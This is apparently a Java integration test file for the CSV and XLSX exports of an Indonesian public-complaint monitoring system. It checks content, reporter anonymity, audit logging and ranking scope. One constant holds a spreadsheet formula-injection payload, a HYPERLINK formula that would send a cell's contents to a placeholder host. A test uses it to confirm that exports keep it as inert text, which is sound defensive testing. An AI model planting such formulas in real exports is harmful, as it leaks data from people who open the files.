package id.lapor.monitoring.web;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.header;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.List;
import java.util.Set;
import java.util.zip.ZipFile;

import id.lapor.IntegrationTest;
import id.lapor.TestAccounts;
import id.lapor.TestReports;
import id.lapor.account.LaporUser;
import id.lapor.account.Role;
import id.lapor.audit.AuditAction;
import id.lapor.audit.AuditEntry;
import id.lapor.audit.AuditLog;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;

import org.dhatim.fastexcel.reader.CellType;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.Row;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.data.domain.PageRequest;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.test.web.servlet.MockMvc;
import org.springframework.test.web.servlet.request.MockHttpServletRequestBuilder;

/**
 * Exports hold exactly what the page shows, as CSV or XLSX; the XLSX files are opened and their cells checked.
 * Kota Palu (72.71) is used by no other test.
 */
@IntegrationTest
class ExportTests {

	static final String XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";

	@Autowired MockMvc mvc;
	@Autowired TestAccounts accounts;
	@Autowired TestReports reports;
	@Autowired JdbcTemplate jdbc;
	@Autowired AuditLog audit;

	/** A formula a spreadsheet program would run when the file is opened (an outside test's finding). */
	static final String FORMULA = "=HYPERLINK(\"http://x/?\"&A1,\"klik\")";

	@Test
	void aFormulaInAReportTitleStaysTextInCsvAndXlsx() throws Exception {

		// Kota Bandar Lampung (18.71) is used by no other export test.
		reports.ensureLiaison("dukcapil-18.71");
		reports.submit(accounts.citizen("Warga Lampung"), "18.71", "kependudukan-ktp", FORMULA,
				"Blangko KTP-el habis di kantor Disdukcapil, sudah tiga bulan menunggu tanpa kepastian.");
		var supervisor = accounts.staff(Role.SUPERVISOR, "ombudsman");

		var csv = mvc.perform(get("/monitoring/bodies/dukcapil-18.71").param("format", "csv")
				.with(accounts.as(supervisor)))
				.andExpect(status().isOk())
				.andReturn().getResponse().getContentAsString(StandardCharsets.UTF_8);
		List<CSVRecord> records;
		try (var parser = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
				.parse(new java.io.StringReader(csv))) {
			records = parser.getRecords();
		}
		assertThat(records).singleElement().satisfies(row -> assertThat(row.get("title")).isEqualTo("'" + FORMULA));

		var response = mvc.perform(get("/monitoring/bodies/dukcapil-18.71").param("format", "xlsx")
				.with(accounts.as(supervisor)))
				.andExpect(status().isOk())
				.andReturn().getResponse().getContentAsByteArray();
		var title = read(response).get(1).getCell(REPORT_TITLE_COLUMN);
		assertThat(title.getType()).isEqualTo(CellType.STRING);
		assertThat(title.getText()).isEqualTo(FORMULA);
		var sheet = zipEntry(response, "xl/worksheets/sheet1.xml");
		assertThat(sheet).doesNotContain("<f>").doesNotContain("<f ");
	}

	@Test
	void everyExportIsInTheAuditLog() throws Exception {

		reports.ensureLiaison("dukcapil-18.71");
		var supervisor = accounts.staff(Role.SUPERVISOR, "ksp");
		var supervisorId = ((LaporUser) accounts.details(supervisor)).id();

		mvc.perform(get("/monitoring").param("regionCode", "18").param("format", "csv").with(accounts.as(supervisor)))
				.andExpect(status().isOk());
		mvc.perform(get("/monitoring/bodies/dukcapil-18.71").param("colour", "red").param("format", "xlsx")
				.with(accounts.as(supervisor)))
				.andExpect(status().isOk());
		mvc.perform(get("/monitoring/bodies").param("format", "csv").with(accounts.as(supervisor)))
				.andExpect(status().isOk());
		mvc.perform(get("/monitoring/monthly").param("month", "2026-10").param("bodyCode", "dukcapil-18.71")
				.with(accounts.as(supervisor)))
				.andExpect(status().isOk());

		var entries = audit.find(Set.of(AuditAction.EXPORT), supervisorId, PageRequest.of(0, 10)).getContent();
		// Newest first: the PDF, the ranking, the body's red reports, the dashboard table.
		assertThat(entries).hasSize(4);
		assertThat(entries.get(0).target()).isEqualTo("lapor-bulanan-dukcapil-18.71-2026-10.pdf");
		assertThat(entries.get(1).target()).startsWith("lapor-peringkat-nasional-").endsWith(".csv");
		assertThat(entries.get(1).detail()).isEqualTo("/monitoring/bodies?format=csv");
		assertThat(entries.get(2).target()).startsWith("lapor-dukcapil-18.71-red-").endsWith(".xlsx");
		assertThat(entries.get(2).detail()).isEqualTo("/monitoring/bodies/dukcapil-18.71?colour=red&format=xlsx");
		assertThat(entries.get(3).target()).startsWith("lapor-monitoring-18-").endsWith(".csv");
		assertThat(entries.get(3).detail()).isEqualTo("/monitoring?regionCode=18&format=csv");
		assertThat(entries).allSatisfy(entry -> assertThat(entry.actorId()).isEqualTo(supervisorId));
	}

	@Test
	void theDashboardTableAsXlsx() throws Exception {

		reports.ktpComplaint(accounts.citizen("Warga"), false, false);
		var supervisor = accounts.staff(Role.SUPERVISOR, "ksp");

		var rows = xlsx(get("/monitoring").param("regionCode", "73").param("format", "xlsx"), supervisor,
				"lapor-monitoring-73-");
		assertThat(rows.getFirst().getCells(0, MonitoringController.INDICATOR_COLUMNS.size()).stream()
				.map(cell -> cell.getText()).toList()).isEqualTo(MonitoringController.INDICATOR_COLUMNS);
		var makassar = rows.stream().filter(row -> row.getCellText(0).equals("73.71")).findFirst().orElseThrow();
		assertThat(makassar.getCellText(1)).isEqualTo("Kota Makassar");
		assertThat(makassar.getCellAsNumber(2)).hasValueSatisfying(received -> assertThat(received).isPositive());
	}

	@Test
	void aBodysReportsAsXlsxAndCsvWithoutTheReporter() throws Exception {

		reports.ensureLiaison("dukcapil-72.71");
		var onTime = reports.submit(accounts.citizen("Pelapor Rahasia Palu"), "72.71", "kependudukan-ktp", false, false);
		var late = reports.submit(accounts.citizen("Pelapor Rahasia Palu"), "72.71", "kependudukan-ktp", true, false);
		jdbc.update("update reports set next_due_at = now() - interval '1 day' where tracking_number = ?", late.value());
		var supervisor = accounts.staff(Role.SUPERVISOR, "ombudsman");

		var all = xlsx(get("/monitoring/bodies/dukcapil-72.71").param("format", "xlsx"), supervisor,
				"lapor-dukcapil-72.71-all-");
		assertThat(all.getFirst().getCellText(0)).isEqualTo("tracking_number");
		assertThat(all.subList(1, all.size())).extracting(row -> row.getCellText(0))
				.containsExactly(late.formatted(), onTime.formatted());
		var first = all.get(1);
		assertThat(first.getCellAsDate(1)).hasValueSatisfying(submitted -> assertThat(submitted.toLocalDate())
				.isAfterOrEqualTo(LocalDate.now().minusDays(1)));
		assertThat(first.getCellText(6)).isEqualTo("Belum ditindaklanjuti");
		assertThat(first.getCellAsBoolean(9)).contains(true);

		var overdue = xlsx(get("/monitoring/bodies/dukcapil-72.71").param("colour", "overdue").param("format", "xlsx"),
				supervisor, "lapor-dukcapil-72.71-overdue-");
		assertThat(overdue).hasSize(2);

		var csv = mvc.perform(get("/monitoring/bodies/dukcapil-72.71").param("format", "csv")
				.with(accounts.as(supervisor)))
				.andExpect(status().isOk())
				.andReturn().getResponse().getContentAsString(StandardCharsets.UTF_8);
		assertThat(csv.lines()).hasSize(3);
		assertThat(csv).contains(late.formatted()).doesNotContain("Pelapor Rahasia Palu");
	}

	@Test
	void theRankingAsXlsxKeepsTheScope() throws Exception {

		reports.ensureLiaison("dukcapil-72.71");
		reports.submit(accounts.citizen("Warga Palu"), "72.71", "kependudukan-ktp", false, false);

		var national = xlsx(get("/monitoring/bodies").param("format", "xlsx"), accounts.staff(Role.ADMIN,
				"kemenpanrb-lapor"), "lapor-peringkat-nasional-");
		assertThat(national.getFirst().getCellText(0)).isEqualTo("position");
		assertThat(national).anySatisfy(row -> assertThat(row.getCellText(1)).contains("Kota Palu"));
		assertThat(national.get(1).getCellAsNumber(0)).contains(BigDecimal.ONE);

		var scoped = xlsx(get("/monitoring/bodies").param("format", "xlsx"), accounts.agencyAdmin("pemda-72.71"),
				"lapor-peringkat-pemda-72.71-");
		assertThat(scoped.subList(1, scoped.size())).isNotEmpty()
				.allSatisfy(row -> assertThat(row.getCellText(1)).contains("Kota Palu"));
	}

	private List<Row> xlsx(MockHttpServletRequestBuilder request, String email, String fileNamePrefix)
			throws Exception {
		var response = mvc.perform(request.with(accounts.as(email)))
				.andExpect(status().isOk())
				.andExpect(header().string("Content-Type", XLSX))
				.andReturn().getResponse();
		assertThat(response.getHeader("Content-Disposition"))
				.startsWith("attachment; filename=\"" + fileNamePrefix).endsWith(".xlsx\"");
		return read(response.getContentAsByteArray());
	}

	/** The title's column in a body's report export. */
	static final int REPORT_TITLE_COLUMN = MonitoringController.REPORT_COLUMNS.indexOf("title");

	private static String zipEntry(byte[] zip, String name) throws IOException {
		var file = java.nio.file.Files.createTempFile("export", ".xlsx");
		try {
			java.nio.file.Files.write(file, zip);
			try (var archive = new ZipFile(file.toFile())) {
				var entry = archive.getEntry(name);
				assertThat(entry).as(name).isNotNull();
				try (var in = archive.getInputStream(entry)) {
					return new String(in.readAllBytes(), StandardCharsets.UTF_8);
				}
			}
		} finally {
			java.nio.file.Files.delete(file);
		}
	}

	private static List<Row> read(byte[] bytes) throws IOException {
		try (var workbook = new ReadableWorkbook(new ByteArrayInputStream(bytes))) {
			return workbook.getFirstSheet().read();
		}
	}
}
